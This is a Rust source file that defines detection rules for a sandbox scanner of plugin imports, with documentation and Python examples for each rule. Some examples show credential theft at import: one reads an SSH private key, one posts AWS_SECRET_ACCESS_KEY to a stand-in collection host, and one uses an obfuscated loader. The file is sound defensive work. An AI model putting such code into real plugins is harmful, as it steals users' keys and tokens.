//! Rules about what importing a package was seen to do. The gate asks them of what
//! a sandbox saw; they stand here so that every rule has its page in one place.

use airlock_model::finding::{Confidence, RuleMeta, Severity};

/// Every rule of this kind.
pub const ALL: &[&RuleMeta] = &[&DECOY_OPENED, &DECOY_SENT, &NOT_IN_SOURCE, &AT_IMPORT, &IMPORT_FAILS, &IMPORT_STOPPED];

/// A decoy file was opened.
pub const DECOY_OPENED: RuleMeta = RuleMeta {
    id: "AL-MALWARE-decoy-opened",
    title: "Importing the plugin opens credentials",
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: Some(522),
    bandit: &[],
    ruff: &[],
    remedy: "Read no key, token or history of the user at import; take what the plugin needs from its configuration.",
    doc: "## What it finds\n\
        An import of the entry point that opens a file which looks like somebody's credentials. The sandbox lays out such \
        decoys (SSH keys, cloud credentials, tokens, browser profiles, a shell history) with secrets made for that one run; \
        nobody's real ones are near.\n\n\
        ## Why it is dangerous\n\
        No plugin has a use for a private key while it is being imported. Code that reads one then does it on every \
        machine that has the plugin, before anybody has called anything.\n\n\
        ## Example\n\
        ```python\nfrom pathlib import Path\n\nKEY = (Path.home() / '.ssh' / 'id_ed25519').read_text()\n```\n\n\
        ## Safe form\n\
        ```python\nclass Tool:\n    def __init__(self, token: str):\n        self.token = token\n```\n\n\
        ## References\n\
        CWE-522: Insufficiently Protected Credentials\n",
};

/// The secret of a decoy was handed on.
pub const DECOY_SENT: RuleMeta = RuleMeta {
    id: "AL-MALWARE-decoy-sent",
    title: "Importing the plugin sends credentials on",
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: Some(200),
    bandit: &[],
    ruff: &[],
    remedy: "Remove the code that reads credentials and sends them; nothing of the kind belongs into a plugin.",
    doc: "## What it finds\n\
        An import of the entry point that sends a secret to an address, or gives it to another program, which lies only in \
        the decoy files and variables of the sandbox and was made for that one run.\n\n\
        ## Why it is dangerous\n\
        It is theft: whoever imports the plugin loses keys and tokens before anybody has called anything.\n\n\
        ## Example\n\
        ```python\nimport os\nimport urllib.request\n\n\
        urllib.request.urlopen('https://collect.example', data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n```\n\n\
        ## Safe form\n\
        ```python\ndef upload(session, data):\n    session.post('https://api.example', data=data)\n```\n\n\
        ## References\n\
        CWE-200: Exposure of Sensitive Information to an Unauthorized Actor\n",
};

/// What the import did is not to be seen in its source.
pub const NOT_IN_SOURCE: RuleMeta = RuleMeta {
    id: "AL-MALWARE-not-in-source",
    title: "Importing the plugin does what its source does not show",
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: Some(506),
    bandit: &[],
    ruff: &[],
    remedy: "Write connections, programs and native code plainly, where a reader of the source finds them.",
    doc: "## What it finds\n\
        A connection, a program or native code that an import of the entry point reached for in the sandbox, although the \
        scanner infers no such capability from the source. Each attempt is listed with who saw it.\n\n\
        ## Why it is dangerous\n\
        What cannot be seen in the source was hidden there, or comes from somewhere else.\n\n\
        ## Example\n\
        ```python\nloader = getattr(__builtins__, ''.join(map(chr, CODES)))\nloader(NAME).create_connection(ADDRESS)\n```\n\n\
        ## Safe form\n\
        ```python\nimport socket\n\n\ndef connect(host):\n    return socket.create_connection((host, 443))\n```\n\n\
        ## References\n\
        CWE-506: Embedded Malicious Code\n",
};

/// A capability was taken by the import alone.
pub const AT_IMPORT: RuleMeta = RuleMeta {
    id: "AL-CAPABILITY-at-import",
    title: "Importing the plugin already reaches outside",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: Some(829),
    bandit: &[],
    ruff: &[],
    remedy: "Move it into a function that is called when it is needed, and declare it under permissions in plugin.yaml.",
    doc: "## What it finds\n\
        A connection, a program, a file outside the plugin, an environment variable or native code that an import of the \
        entry point reached for in the sandbox. Each attempt is listed with who saw it: the host, or only the \
        interpreter that the plugin shares.\n\n\
        ## Why it is dangerous\n\
        Importing is what every client does first, often while it merely lists its plugins. What happens then happens \
        without anybody's asking.\n\n\
        ## Example\n\
        ```python\nimport socket\n\nsocket.create_connection(('example.org', 443))\n```\n\n\
        ## Safe form\n\
        ```python\nimport socket\n\n\ndef connect():\n    return socket.create_connection(('example.org', 443))\n```\n\n\
        ## References\n\
        CWE-829: Inclusion of Functionality from Untrusted Control Sphere\n",
};

/// The entry point cannot be imported.
pub const IMPORT_FAILS: RuleMeta = RuleMeta {
    id: "AL-TESTS-import-fails",
    title: "The entry point cannot be imported",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: None,
    bandit: &[],
    ruff: &[],
    remedy: "Import the entry point on a fresh machine with nothing but the declared dependencies, and mend what fails.",
    doc: "## What it finds\n\
        An entry point whose import raised an exception in the sandbox, where nothing that the sandbox lacks explains it.\n\n\
        ## Why it is dangerous\n\
        It is not; but a client that loads the plugin will most likely meet the same exception.\n\n\
        ## Example\n\
        ```python\nSETTINGS = open('settings.json').read()  # a file that is only on the author's machine\n```\n\n\
        ## Safe form\n\
        ```python\ndef settings(path):\n    return open(path).read()\n```\n\n\
        ## References\n\
        The manifest's `entry_point`, in docs/manifest.md\n",
};

/// The import ran into a limit.
pub const IMPORT_STOPPED: RuleMeta = RuleMeta {
    id: "AL-TESTS-import-stopped",
    title: "Importing the entry point had to be stopped",
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: Some(400),
    bandit: &[],
    ruff: &[],
    remedy: "Do no work at import: no loops, downloads or large tables; build them when they are first asked for.",
    doc: "## What it finds\n\
        An import of the entry point that ran into a limit of time, memory, disk or output, that ended the interpreter, \
        or that meddled with what the sandbox reports.\n\n\
        ## Why it is dangerous\n\
        A client that loads its plugins hangs or dies with it.\n\n\
        ## Example\n\
        ```python\nwhile not ready():\n    pass\n```\n\n\
        ## Safe form\n\
        ```python\ndef wait(timeout):\n    ...\n```\n\n\
        ## References\n\
        CWE-400: Uncontrolled Resource Consumption\n",
};
